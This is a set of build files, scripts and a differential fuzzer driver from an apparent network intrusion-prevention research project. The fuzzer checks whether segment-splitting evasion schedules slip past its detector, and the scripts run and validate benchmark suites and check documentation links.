  include(CMakeFiles/core_theorem_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
