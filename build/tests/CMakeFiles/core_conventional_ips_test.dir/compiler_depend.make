# Empty compiler generated dependencies file for core_conventional_ips_test.
# This may be replaced when dependencies are built.
