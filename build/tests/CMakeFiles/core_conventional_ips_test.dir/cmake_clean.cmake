file(REMOVE_RECURSE
  "CMakeFiles/core_conventional_ips_test.dir/core/conventional_ips_test.cpp.o"
  "CMakeFiles/core_conventional_ips_test.dir/core/conventional_ips_test.cpp.o.d"
  "core_conventional_ips_test"
  "core_conventional_ips_test.pdb"
  "core_conventional_ips_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/core_conventional_ips_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
