file(REMOVE_RECURSE
  "CMakeFiles/match_single_match_test.dir/match/single_match_test.cpp.o"
  "CMakeFiles/match_single_match_test.dir/match/single_match_test.cpp.o.d"
  "match_single_match_test"
  "match_single_match_test.pdb"
  "match_single_match_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/match_single_match_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
