file(REMOVE_RECURSE
  "CMakeFiles/evasion_flow_forge_test.dir/evasion/flow_forge_test.cpp.o"
  "CMakeFiles/evasion_flow_forge_test.dir/evasion/flow_forge_test.cpp.o.d"
  "evasion_flow_forge_test"
  "evasion_flow_forge_test.pdb"
  "evasion_flow_forge_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/evasion_flow_forge_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
