# Empty compiler generated dependencies file for evasion_flow_forge_test.
# This may be replaced when dependencies are built.
