# Empty compiler generated dependencies file for evasion_corpus_test.
# This may be replaced when dependencies are built.
