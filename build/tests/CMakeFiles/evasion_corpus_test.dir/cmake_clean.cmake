file(REMOVE_RECURSE
  "CMakeFiles/evasion_corpus_test.dir/evasion/corpus_test.cpp.o"
  "CMakeFiles/evasion_corpus_test.dir/evasion/corpus_test.cpp.o.d"
  "evasion_corpus_test"
  "evasion_corpus_test.pdb"
  "evasion_corpus_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/evasion_corpus_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
