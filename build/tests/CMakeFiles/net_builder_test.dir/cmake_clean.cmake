file(REMOVE_RECURSE
  "CMakeFiles/net_builder_test.dir/net/builder_test.cpp.o"
  "CMakeFiles/net_builder_test.dir/net/builder_test.cpp.o.d"
  "net_builder_test"
  "net_builder_test.pdb"
  "net_builder_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/net_builder_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
