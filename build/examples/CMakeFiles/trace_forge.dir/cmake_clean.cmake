file(REMOVE_RECURSE
  "CMakeFiles/trace_forge.dir/trace_forge.cpp.o"
  "CMakeFiles/trace_forge.dir/trace_forge.cpp.o.d"
  "trace_forge"
  "trace_forge.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/trace_forge.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
