# Empty dependencies file for trace_forge.
# This may be replaced when dependencies are built.
