# Empty dependencies file for evasion_demo.
# This may be replaced when dependencies are built.
