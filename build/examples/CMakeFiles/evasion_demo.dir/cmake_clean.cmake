file(REMOVE_RECURSE
  "CMakeFiles/evasion_demo.dir/evasion_demo.cpp.o"
  "CMakeFiles/evasion_demo.dir/evasion_demo.cpp.o.d"
  "evasion_demo"
  "evasion_demo.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/evasion_demo.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
