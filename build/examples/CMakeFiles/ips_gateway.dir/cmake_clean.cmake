file(REMOVE_RECURSE
  "CMakeFiles/ips_gateway.dir/ips_gateway.cpp.o"
  "CMakeFiles/ips_gateway.dir/ips_gateway.cpp.o.d"
  "ips_gateway"
  "ips_gateway.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/ips_gateway.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
