# Empty compiler generated dependencies file for ips_gateway.
# This may be replaced when dependencies are built.
