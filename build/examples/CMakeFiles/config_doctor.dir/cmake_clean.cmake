file(REMOVE_RECURSE
  "CMakeFiles/config_doctor.dir/config_doctor.cpp.o"
  "CMakeFiles/config_doctor.dir/config_doctor.cpp.o.d"
  "config_doctor"
  "config_doctor.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/config_doctor.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
