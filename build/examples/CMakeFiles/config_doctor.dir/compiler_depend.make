# Empty compiler generated dependencies file for config_doctor.
# This may be replaced when dependencies are built.
