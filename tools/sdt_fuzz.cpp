// sdt_fuzz — differential evasion fuzzer driver.
//
// Campaign mode (default): generate adversarial delivery schedules, replay
// each through the Split-Detect engine AND a full-reassembly oracle, and
// fail loudly when the paper's detection theorem breaks. Violations are
// shrunk to minimal reproducers (pcap + JSON) under --repro-dir.
//
//   sdt_fuzz --schedules 100000 --seed 1
//   sdt_fuzz --seconds 3600 --seed 7            # nightly soak
//   sdt_fuzz --schedules 200 --inject-bug       # shrinker self-demo
//   sdt_fuzz --replay fuzz/repros/repro-....json
//
// Exit status: 0 = clean (or repro reproduced in --replay mode), 1 = at
// least one violation / repro did not reproduce, 2 = usage error.
#include <cerrno>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <string>
#include <vector>

#include "evasion/corpus.hpp"
#include "net/encap.hpp"
#include "fuzz/repro.hpp"
#include "fuzz/runner.hpp"
#include "telemetry/registry.hpp"
#include "util/error.hpp"
#include "util/rng.hpp"

namespace {

struct Options {
  std::uint64_t schedules = 10000;
  std::uint64_t seed = 1;
  std::uint64_t seconds = 0;  // soak mode when non-zero
  std::size_t lanes = 4;
  std::size_t piece_len = 8;
  std::size_t synthetic_sigs = 8;
  bool quick = false;
  bool inject_bug = false;
  bool no_strict = false;
  bool no_reload_crosscheck = false;
  bool no_flood_crosscheck = false;
  bool no_prefilter_crosscheck = false;
  bool no_parity_crosscheck = false;
  std::uint64_t reload_swaps = 4;
  double flood_fraction = 0.1;
  /// Non-v4 framings eligible for re-framing ("mixed" = all of them).
  std::vector<sdt::net::Framing> framings;
  double encap_fraction = 0.5;
  double benign_budget = 0.25;
  std::string replay_path;
  std::string repro_dir = "fuzz/repros";
  std::string stats_out;
};

void usage(const char* argv0) {
  std::fprintf(stderr,
               "usage: %s [--schedules N] [--seed S] [--seconds N]\n"
               "          [--lanes N] [--piece-len P] [--synthetic-sigs N]\n"
               "          [--quick] [--inject-bug] [--no-strict]\n"
               "          [--benign-budget F] [--repro-dir DIR]\n"
               "          [--no-reload-crosscheck] [--reload-swaps N]\n"
               "          [--flood-fraction F] [--no-flood-crosscheck]\n"
               "          [--no-prefilter-crosscheck] [--no-parity-crosscheck]\n"
               "          [--framing v6|vlan|qinq|vxlan|gre|mixed[,..]]\n"
               "          [--encap-fraction F]\n"
               "          [--stats-out FILE] [--replay REPRO.json]\n",
               argv0);
}

/// Strict decimal parse: rejects sign prefixes, garbage, and overflow, so
/// "--schedules -5" is a usage error instead of wrapping to ~2^64.
bool parse_u64(const char* flag, const char* v, std::uint64_t& out) {
  if (v[0] < '0' || v[0] > '9') {
    std::fprintf(stderr, "sdt_fuzz: %s wants a non-negative integer, got '%s'\n",
                 flag, v);
    return false;
  }
  errno = 0;
  char* end = nullptr;
  const unsigned long long n = std::strtoull(v, &end, 10);
  if (errno != 0 || end == v || *end != '\0') {
    std::fprintf(stderr, "sdt_fuzz: %s wants a non-negative integer, got '%s'\n",
                 flag, v);
    return false;
  }
  out = n;
  return true;
}

bool parse_args(int argc, char** argv, Options& opt) {
  for (int i = 1; i < argc; ++i) {
    const std::string a = argv[i];
    auto need = [&](const char* flag) -> const char* {
      if (i + 1 >= argc) {
        std::fprintf(stderr, "sdt_fuzz: %s needs a value\n", flag);
        return nullptr;
      }
      return argv[++i];
    };
    auto need_u64 = [&](const char* flag, std::uint64_t& out) {
      const char* v = need(flag);
      return v != nullptr && parse_u64(flag, v, out);
    };
    std::uint64_t n = 0;
    if (a == "--schedules") {
      if (!need_u64("--schedules", opt.schedules)) return false;
    } else if (a == "--seed") {
      if (!need_u64("--seed", opt.seed)) return false;
    } else if (a == "--seconds") {
      if (!need_u64("--seconds", opt.seconds)) return false;
    } else if (a == "--lanes") {
      if (!need_u64("--lanes", n)) return false;
      if (n == 0) {
        std::fprintf(stderr, "sdt_fuzz: --lanes must be >= 1\n");
        return false;
      }
      opt.lanes = static_cast<std::size_t>(n);
    } else if (a == "--piece-len") {
      if (!need_u64("--piece-len", n)) return false;
      if (n < 2) {
        std::fprintf(stderr, "sdt_fuzz: --piece-len must be >= 2\n");
        return false;
      }
      opt.piece_len = static_cast<std::size_t>(n);
    } else if (a == "--synthetic-sigs") {
      if (!need_u64("--synthetic-sigs", n)) return false;
      opt.synthetic_sigs = static_cast<std::size_t>(n);
    } else if (a == "--benign-budget") {
      const char* v = need("--benign-budget");
      if (!v) return false;
      char* end = nullptr;
      opt.benign_budget = std::strtod(v, &end);
      if (end == v || *end != '\0' || !(opt.benign_budget >= 0.0) ||
          opt.benign_budget > 1.0) {
        std::fprintf(stderr,
                     "sdt_fuzz: --benign-budget wants a fraction in [0,1], "
                     "got '%s'\n",
                     v);
        return false;
      }
    } else if (a == "--repro-dir") {
      const char* v = need("--repro-dir");
      if (!v) return false;
      opt.repro_dir = v;
    } else if (a == "--stats-out") {
      const char* v = need("--stats-out");
      if (!v) return false;
      opt.stats_out = v;
    } else if (a == "--replay") {
      const char* v = need("--replay");
      if (!v) return false;
      opt.replay_path = v;
    } else if (a == "--reload-swaps") {
      if (!need_u64("--reload-swaps", opt.reload_swaps)) return false;
    } else if (a == "--no-reload-crosscheck") {
      opt.no_reload_crosscheck = true;
    } else if (a == "--flood-fraction") {
      const char* v = need("--flood-fraction");
      if (!v) return false;
      char* end = nullptr;
      opt.flood_fraction = std::strtod(v, &end);
      if (end == v || *end != '\0' || !(opt.flood_fraction >= 0.0) ||
          opt.flood_fraction > 1.0) {
        std::fprintf(stderr,
                     "sdt_fuzz: --flood-fraction wants a fraction in [0,1], "
                     "got '%s'\n",
                     v);
        return false;
      }
    } else if (a == "--no-flood-crosscheck") {
      opt.no_flood_crosscheck = true;
    } else if (a == "--no-prefilter-crosscheck") {
      opt.no_prefilter_crosscheck = true;
    } else if (a == "--no-parity-crosscheck") {
      opt.no_parity_crosscheck = true;
    } else if (a == "--framing") {
      const char* v = need("--framing");
      if (!v) return false;
      std::string list = v;
      std::size_t pos = 0;
      while (pos <= list.size()) {
        const std::size_t comma = list.find(',', pos);
        const std::string one =
            list.substr(pos, comma == std::string::npos ? comma : comma - pos);
        pos = comma == std::string::npos ? list.size() + 1 : comma + 1;
        if (one.empty()) continue;
        if (one == "mixed") {
          for (const auto f :
               {sdt::net::Framing::v6, sdt::net::Framing::vlan,
                sdt::net::Framing::qinq, sdt::net::Framing::vxlan,
                sdt::net::Framing::gre}) {
            opt.framings.push_back(f);
          }
          continue;
        }
        try {
          const sdt::net::Framing f = sdt::net::framing_from_string(one);
          if (f != sdt::net::Framing::v4) opt.framings.push_back(f);
        } catch (const sdt::Error&) {
          std::fprintf(stderr, "sdt_fuzz: unknown framing '%s'\n",
                       one.c_str());
          return false;
        }
      }
    } else if (a == "--encap-fraction") {
      const char* v = need("--encap-fraction");
      if (!v) return false;
      char* end = nullptr;
      opt.encap_fraction = std::strtod(v, &end);
      if (end == v || *end != '\0' || !(opt.encap_fraction >= 0.0) ||
          opt.encap_fraction > 1.0) {
        std::fprintf(stderr,
                     "sdt_fuzz: --encap-fraction wants a fraction in [0,1], "
                     "got '%s'\n",
                     v);
        return false;
      }
    } else if (a == "--quick") {
      opt.quick = true;
    } else if (a == "--inject-bug") {
      opt.inject_bug = true;
    } else if (a == "--no-strict") {
      opt.no_strict = true;
    } else if (a == "--help" || a == "-h") {
      usage(argv[0]);
      std::exit(0);
    } else {
      std::fprintf(stderr, "sdt_fuzz: unknown flag '%s'\n", a.c_str());
      return false;
    }
  }
  return true;
}

int run_replay(const Options& opt) {
  const sdt::fuzz::Repro r = sdt::fuzz::load_repro(opt.replay_path);
  const sdt::fuzz::ReplayResult res = sdt::fuzz::replay_repro(r);
  std::printf(
      "replay %s\n  recorded violation: %s\n  replayed violation: %s\n"
      "  packets=%zu flagged=%s oracle_sigs=%zu engine_sigs=%zu\n"
      "  %s\n",
      opt.replay_path.c_str(), sdt::fuzz::to_string(r.violation),
      sdt::fuzz::to_string(res.outcome.violation), res.outcome.packets,
      res.outcome.flagged ? "yes" : "no", res.outcome.oracle_sigs.size(),
      res.outcome.engine_sigs.size(),
      res.reproduced ? "REPRODUCED" : "DID NOT REPRODUCE");
  return res.reproduced ? 0 : 1;
}

int run_campaign(const Options& opt) {
  // Randomized corpus: the bundled exploit strings (long enough to split
  // at this piece length) plus seed-derived synthetic signatures, so every
  // run exercises fresh patterns while staying reproducible.
  sdt::core::SignatureSet corpus =
      sdt::evasion::default_corpus(2 * opt.piece_len);
  if (opt.synthetic_sigs > 0) {
    sdt::Rng rng(opt.seed ^ 0xc0ffee);
    const sdt::core::SignatureSet extra = sdt::evasion::synthetic_corpus(
        opt.synthetic_sigs, 2 * opt.piece_len + 8, rng);
    for (const sdt::core::Signature& sig : extra) {
      corpus.add("fuzz_" + sig.name, sdt::ByteView(sig.bytes));
    }
  }

  sdt::fuzz::RunnerConfig cfg;
  cfg.seed = opt.seed;
  cfg.lanes = opt.lanes;
  cfg.repro_dir = opt.repro_dir;
  cfg.harness.piece_len = opt.piece_len;
  cfg.harness.inject_small_segment_bug = opt.inject_bug;
  cfg.harness.strict = !opt.no_strict;
  cfg.reload_crosscheck_every = opt.no_reload_crosscheck ? 0 : 2048;
  cfg.reload_swaps = opt.reload_swaps;
  cfg.gen.flood_fraction = opt.flood_fraction;
  cfg.flood_crosscheck_every = opt.no_flood_crosscheck ? 0 : 2048;
  cfg.prefilter_crosscheck_every = opt.no_prefilter_crosscheck ? 0 : 2048;
  cfg.parity_crosscheck_every = opt.no_parity_crosscheck ? 0 : 2048;
  cfg.gen.framings = opt.framings;
  cfg.gen.encap_fraction = opt.framings.empty() ? 0.0 : opt.encap_fraction;
  if (opt.quick) {
    cfg.gen.max_pad = 400;        // shorter streams
    cfg.crosscheck_every = 1024;  // still a few crosschecks per smoke run
    cfg.crosscheck_batch = 32;
    cfg.shrink_budget = 1500;
    if (!opt.no_reload_crosscheck) cfg.reload_crosscheck_every = 1024;
    if (!opt.no_flood_crosscheck) cfg.flood_crosscheck_every = 1024;
    if (!opt.no_prefilter_crosscheck) cfg.prefilter_crosscheck_every = 1024;
    if (!opt.no_parity_crosscheck) cfg.parity_crosscheck_every = 1024;
  }

  sdt::fuzz::FuzzRunner runner(corpus, cfg);
  sdt::telemetry::MetricsRegistry registry;
  runner.register_metrics(registry);

  if (opt.seconds > 0) {
    const auto deadline = std::chrono::steady_clock::now() +
                          std::chrono::seconds(opt.seconds);
    std::uint64_t chunk = 1024;
    while (std::chrono::steady_clock::now() < deadline) {
      runner.run(chunk);
      std::fprintf(stderr, "soak: %llu schedules, %llu violations\n",
                   static_cast<unsigned long long>(runner.summary().schedules),
                   static_cast<unsigned long long>(
                       runner.summary().violations()));
    }
  } else {
    runner.run(opt.schedules);
  }

  const sdt::fuzz::RunSummary& sum = runner.summary();
  std::printf("%s\n", sum.to_json().c_str());

  if (!opt.stats_out.empty()) {
    std::ofstream out(opt.stats_out, std::ios::binary);
    if (!out) {
      std::fprintf(stderr, "sdt_fuzz: cannot write %s\n",
                   opt.stats_out.c_str());
      return 2;
    }
    out << "{\"summary\":" << sum.to_json() << ",\"metrics\":"
        << registry.snapshot(sdt::telemetry::SampleScope::quiescent).to_json()
        << "}\n";
  }

  if (!sum.ok(opt.benign_budget)) {
    std::fprintf(stderr,
                 "sdt_fuzz: FAIL — %llu violation(s), benign diversion "
                 "%.4f (budget %.4f)\n",
                 static_cast<unsigned long long>(sum.violations()),
                 sum.benign_divert_fraction(), opt.benign_budget);
    return 1;
  }
  std::fprintf(stderr, "sdt_fuzz: OK — %llu schedules, 0 violations\n",
               static_cast<unsigned long long>(sum.schedules));
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  Options opt;
  if (!parse_args(argc, argv, opt)) {
    usage(argv[0]);
    return 2;
  }
  try {
    return opt.replay_path.empty() ? run_campaign(opt) : run_replay(opt);
  } catch (const sdt::Error& e) {
    std::fprintf(stderr, "sdt_fuzz: %s\n", e.what());
    return 2;
  }
}
