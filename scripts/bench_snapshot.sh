#!/usr/bin/env bash
# Run the experiment bench suite and merge the per-bench machine-readable
# reports (schema sdt-bench/1, one per binary via --json) into a single
# snapshot file (schema sdt-bench-snapshot/1, documented in
# docs/OBSERVABILITY.md), then validate it.
#
#   scripts/bench_snapshot.sh              # full suite -> BENCH_<date>.json
#   scripts/bench_snapshot.sh --quick      # CI smoke sizing, same schema
#   scripts/bench_snapshot.sh --out x.json # explicit output path
#
# Every timed metric in the snapshot is a median over repeated runs with its
# MAD (median absolute deviation) and run count alongside — never a single
# hot measurement.
set -euo pipefail
cd "$(dirname "$0")/.."

QUICK=""
OUT=""
BUILD=build
JOBS="$(nproc)"
while [[ $# -gt 0 ]]; do
  case "$1" in
    --quick) QUICK="--quick"; shift ;;
    --out)   OUT="$2"; shift 2 ;;
    --build) BUILD="$2"; shift 2 ;;
    *) echo "usage: $0 [--quick] [--out FILE] [--build DIR]" >&2; exit 2 ;;
  esac
done

DATE="$(date +%F)"
[[ -n "${OUT}" ]] || OUT="BENCH_${DATE}.json"

BENCHES=(
  evasion_matrix    # E1
  state_memory      # E2
  throughput        # E3
  diversion_rate    # E4
  piece_fp          # E5
  ac_memory         # E6
  anomaly_census    # E7
  slowpath_load     # E8
  overlap_policies  # E9
  diversion_flood   # E10
  inline_soak       # E11
  match_kernels     # A1
  phase_ablation    # A2
  lane_scaling      # A3
  runtime_scaling   # A4
  reload            # A5
)

echo "== build bench binaries (${BUILD}) =="
cmake -B "${BUILD}" -S . >/dev/null
cmake --build "${BUILD}" -j "${JOBS}" \
  $(printf -- '--target bench_%s ' "${BENCHES[@]}") >/dev/null

TMP="$(mktemp -d)"
trap 'rm -rf "${TMP}"' EXIT

for b in "${BENCHES[@]}"; do
  echo "== bench_${b} ${QUICK} =="
  "${BUILD}/bench/bench_${b}" ${QUICK} --json "${TMP}/${b}.json" \
    > "${TMP}/${b}.log" \
    || { echo "bench_${b} failed:" >&2; cat "${TMP}/${b}.log" >&2; exit 1; }
done

# Merge: benches keyed by their bench id, plus run provenance.
jq -n \
   --arg date "${DATE}" \
   --arg host "$(hostname)" \
   --argjson quick "$([[ -n "${QUICK}" ]] && echo true || echo false)" \
   '{schema: "sdt-bench-snapshot/1", date: $date, host: $host,
     quick: $quick, benches: ([inputs | {(.bench): .}] | add)}' \
   "${TMP}"/*.json > "${OUT}"

python3 scripts/validate_bench_json.py "${OUT}"
echo "== snapshot written: ${OUT} ($(jq '.benches | length' "${OUT}") benches) =="
