#!/usr/bin/env python3
"""Validate intra-repo markdown links and anchors.

Scans every tracked *.md file (repo root and docs/), extracts inline links
[text](target) and reference definitions [id]: target, and checks that

  * a relative file target exists in the repo (as a file or directory),
  * a #fragment resolves to a real heading in the target file, using
    GitHub's anchor slugification (lowercase, punctuation stripped,
    spaces → hyphens, duplicate slugs suffixed -1, -2, ...),
  * a bare #fragment resolves within the file that contains it.

External links (http://, https://, mailto:) are skipped — this gate is for
the rot we can actually fix offline. Exits nonzero naming every broken
link, so scripts/check.sh can gate on it. Stdlib only.

Usage: check_docs.py [ROOT]
"""
import os
import re
import sys

# Inline [text](target) — skips images' leading ! lazily (an image path is
# checked the same way a link is, which is what we want).
INLINE_RE = re.compile(r"\[[^\]^\[]*\]\(([^)\s]+)(?:\s+\"[^\"]*\")?\)")
# Reference definitions: [id]: target
REFDEF_RE = re.compile(r"^\s{0,3}\[[^\]]+\]:\s+(\S+)", re.M)
HEADING_RE = re.compile(r"^(#{1,6})\s+(.*?)\s*#*\s*$", re.M)
CODE_FENCE_RE = re.compile(r"^(```|~~~).*?^\1\s*$", re.M | re.S)
EXTERNAL = ("http://", "https://", "mailto:", "ftp://")


def strip_fences(text):
    """Remove fenced code blocks — a heading-looking line inside a code
    example is not a heading."""
    return CODE_FENCE_RE.sub("", text)


def strip_code(text):
    """Remove fenced code blocks and inline code spans before link
    extraction — a ](path) inside a code example is not a link."""
    return re.sub(r"`[^`\n]*`", "", strip_fences(text))


def github_slug(title):
    # Inline markup contributes its text, not its syntax.
    title = re.sub(r"[*_`]", "", title)
    # Links in headings contribute their text.
    title = re.sub(r"\[([^\]]*)\]\([^)]*\)", r"\1", title)
    slug = title.strip().lower()
    slug = re.sub(r"[^\w\- ]", "", slug, flags=re.UNICODE)
    slug = slug.replace(" ", "-")
    return slug


def anchors_of(text):
    """All valid anchor slugs of one markdown document."""
    # Fences are stripped but inline code is kept: GitHub slugs include a
    # code span's text (`sdt::match` contributes "sdtmatch").
    seen = {}
    out = set()
    for m in HEADING_RE.finditer(strip_fences(text)):
        slug = github_slug(m.group(2))
        n = seen.get(slug, 0)
        seen[slug] = n + 1
        out.add(slug if n == 0 else f"{slug}-{n}")
    # Explicit HTML anchors also count.
    for m in re.finditer(r"<a\s+(?:name|id)=\"([^\"]+)\"", text):
        out.add(m.group(1))
    return out


def md_files(root):
    out = []
    for dirpath, dirnames, filenames in os.walk(root):
        # Stay out of build trees and third-party checkouts.
        dirnames[:] = [d for d in dirnames
                       if not d.startswith((".", "build")) and
                       d not in ("node_modules", "external")]
        for f in filenames:
            if f.endswith(".md"):
                out.append(os.path.join(dirpath, f))
    return sorted(out)


def main(argv):
    root = os.path.abspath(argv[1]) if len(argv) > 1 else os.path.dirname(
        os.path.dirname(os.path.abspath(__file__)))
    files = md_files(root)
    if not files:
        print(f"no markdown files under {root}", file=sys.stderr)
        return 2

    cache = {}

    def text_of(path):
        if path not in cache:
            with open(path, encoding="utf-8") as f:
                cache[path] = f.read()
        return cache[path]

    errors = []
    links = 0
    for path in files:
        body = strip_code(text_of(path))
        rel = os.path.relpath(path, root)
        targets = [m.group(1) for m in INLINE_RE.finditer(body)]
        targets += [m.group(1) for m in REFDEF_RE.finditer(body)]
        for target in targets:
            if target.startswith(EXTERNAL) or target.startswith("<"):
                continue
            links += 1
            file_part, _, frag = target.partition("#")
            if file_part:
                dest = os.path.normpath(
                    os.path.join(os.path.dirname(path), file_part))
                if not os.path.exists(dest):
                    errors.append(f"{rel}: broken link '{target}' "
                                  f"(no such file {file_part})")
                    continue
            else:
                dest = path
            if frag:
                if os.path.isdir(dest) or not dest.endswith(".md"):
                    continue  # can't anchor-check non-markdown targets
                if frag.lower() not in anchors_of(text_of(dest)):
                    where = file_part or "this file"
                    errors.append(f"{rel}: broken anchor '#{frag}' "
                                  f"(no such heading in {where})")

    for e in errors:
        print(f"check_docs: {e}", file=sys.stderr)
    ok = len(files)
    if errors:
        print(f"check_docs: {len(errors)} broken link(s) across {ok} files",
              file=sys.stderr)
        return 1
    print(f"check_docs: OK — {links} intra-repo links across {ok} "
          f"markdown files")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
