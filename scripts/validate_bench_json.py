#!/usr/bin/env python3
"""Validate bench JSON against the documented schemas (docs/OBSERVABILITY.md).

Accepts either a per-bench report (schema sdt-bench/1, written by a bench's
--json flag) or a merged snapshot (schema sdt-bench-snapshot/1, written by
scripts/bench_snapshot.sh). Exits nonzero with a message naming the first
violation, so check.sh can gate on it. Stdlib only — the repo deliberately
carries no JSON parser in C++ and no third-party Python.

Usage: validate_bench_json.py FILE [FILE...]
"""
import json
import numbers
import sys


def fail(path, msg):
    print(f"{path}: SCHEMA VIOLATION: {msg}", file=sys.stderr)
    sys.exit(1)


def check_metric(path, bench, i, m):
    where = f"bench {bench!r} metrics[{i}]"
    if not isinstance(m, dict):
        fail(path, f"{where} is not an object")
    for key, typ in (("name", str), ("unit", str)):
        if not isinstance(m.get(key), typ):
            fail(path, f"{where} missing/ill-typed {key!r}")
    if not isinstance(m.get("value"), numbers.Real) or isinstance(
            m.get("value"), bool):
        fail(path, f"{where} ({m.get('name')}) missing/ill-typed 'value'")
    has_mad = "mad" in m
    has_runs = "runs" in m
    if has_mad != has_runs:
        fail(path, f"{where} ({m['name']}): 'mad' and 'runs' must appear "
                   "together (repeat-timed metric) or not at all")
    if has_mad:
        if not isinstance(m["mad"], numbers.Real) or isinstance(m["mad"], bool):
            fail(path, f"{where} ({m['name']}): ill-typed 'mad'")
        if not isinstance(m["runs"], int) or isinstance(m["runs"], bool) \
                or m["runs"] < 1:
            fail(path, f"{where} ({m['name']}): 'runs' must be a positive int")


def check_bench(path, key, b):
    if not isinstance(b, dict):
        fail(path, f"bench {key!r} is not an object")
    if b.get("schema") != "sdt-bench/1":
        fail(path, f"bench {key!r}: schema is {b.get('schema')!r}, "
                   "expected 'sdt-bench/1'")
    if not isinstance(b.get("bench"), str) or not b["bench"]:
        fail(path, f"bench {key!r}: missing/ill-typed 'bench' id")
    if key is not None and b["bench"] != key:
        fail(path, f"benches key {key!r} != bench id {b['bench']!r}")
    if not isinstance(b.get("title"), str):
        fail(path, f"bench {b['bench']!r}: missing/ill-typed 'title'")
    if not isinstance(b.get("quick"), bool):
        fail(path, f"bench {b['bench']!r}: missing/ill-typed 'quick'")
    metrics = b.get("metrics")
    if not isinstance(metrics, list) or not metrics:
        fail(path, f"bench {b['bench']!r}: 'metrics' must be a non-empty list")
    names = set()
    for i, m in enumerate(metrics):
        check_metric(path, b["bench"], i, m)
        if m["name"] in names:
            fail(path, f"bench {b['bench']!r}: duplicate metric {m['name']!r}")
        names.add(m["name"])
    check_invariants(path, b)


# Cross-framing invariants the snapshot must uphold (not just carry):
# detection recall and the anomaly census are properties of the byte
# stream, so their encap-parity counters must be exactly zero; the inline
# soak's conservation law and latency-budget gate are pass/fail claims,
# not trend lines.
INVARIANT_ZERO = {
    "E1_evasion_matrix": ("encap.divergences", "split_detect.evaded_total"),
    "E7_anomaly_census": ("encap.census_mismatches",),
    "E11_inline_soak": ("inline_soak.conservation_violations",
                        "inline_soak.p99_over_budget"),
}


def check_invariants(path, b):
    names = {m["name"]: m["value"] for m in b.get("metrics", [])}
    for metric in INVARIANT_ZERO.get(b.get("bench", ""), ()):
        if metric in names and names[metric] != 0:
            fail(path, f"bench {b['bench']!r}: invariant metric "
                       f"{metric!r} = {names[metric]}, expected 0")


def check_snapshot(path, doc):
    for key in ("date", "host"):
        if not isinstance(doc.get(key), str) or not doc[key]:
            fail(path, f"missing/ill-typed {key!r}")
    if not isinstance(doc.get("quick"), bool):
        fail(path, "missing/ill-typed 'quick'")
    benches = doc.get("benches")
    if not isinstance(benches, dict) or not benches:
        fail(path, "'benches' must be a non-empty object")
    for key, b in benches.items():
        check_bench(path, key, b)


def main(argv):
    if len(argv) < 2:
        print(__doc__.strip(), file=sys.stderr)
        return 2
    for path in argv[1:]:
        try:
            with open(path, encoding="utf-8") as f:
                doc = json.load(f)
        except (OSError, ValueError) as e:
            fail(path, f"unreadable or not JSON: {e}")
        if not isinstance(doc, dict):
            fail(path, "top level is not an object")
        schema = doc.get("schema")
        if schema == "sdt-bench-snapshot/1":
            check_snapshot(path, doc)
        elif schema == "sdt-bench/1":
            check_bench(path, None, doc)
        else:
            fail(path, f"unknown schema {schema!r}")
        print(f"{path}: OK ({schema})")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
