#!/usr/bin/env python3
"""Render a performance-trajectory table from checked-in bench snapshots.

Reads every BENCH_*.json in the repo root (schema sdt-bench-snapshot/1,
written by scripts/bench_snapshot.sh), orders them by date, and prints a
markdown table with one row per metric and one column per snapshot — the
honest history of how the numbers moved across PRs. docs/PERFORMANCE.md
embeds the headline table; regenerate it with:

    python3 scripts/bench_report.py            # headline metrics
    python3 scripts/bench_report.py --all      # every metric in every bench
    python3 scripts/bench_report.py --bench A4_runtime_scaling
    python3 scripts/bench_report.py --metric 'runtime.lanes16.*'

A metric absent from a snapshot renders as "–" (the bench or size didn't
exist yet) — absence is part of the trajectory, never papered over.
Repeat-timed metrics render as median ±MAD. Stdlib only.
"""
import argparse
import fnmatch
import glob
import json
import os
import sys

# The headline set: one row per claim the docs actually make. Patterns are
# fnmatch-style against "bench_id:metric_name".
HEADLINES = [
    ("E3_throughput:split_detect.gbps_per_core", "fast path, 1 core (Gbps)"),
    ("E3_throughput:split_over_conventional_wallclock",
     "split-detect vs conventional (wall-clock ratio)"),
    ("A1_match_kernels:flat_batch.clean_ns_per_byte",
     "batched flat-DFA scan, clean payloads (ns/B)"),
    ("A1_match_kernels:staged.clean_ns_per_byte",
     "prefilter-staged scan, clean payloads (ns/B)"),
    ("A3_lane_scaling:split_detect.lanes8.speedup", "sim speedup @8 lanes"),
    ("A4_runtime_scaling:runtime.lanes8.aggregate_gbps",
     "runtime aggregate @8 lanes (Gbps)"),
    ("A4_runtime_scaling:runtime.lanes8.speedup", "runtime speedup @8 lanes"),
    ("A4_runtime_scaling:runtime.lanes16.aggregate_gbps",
     "runtime aggregate @16 lanes (Gbps)"),
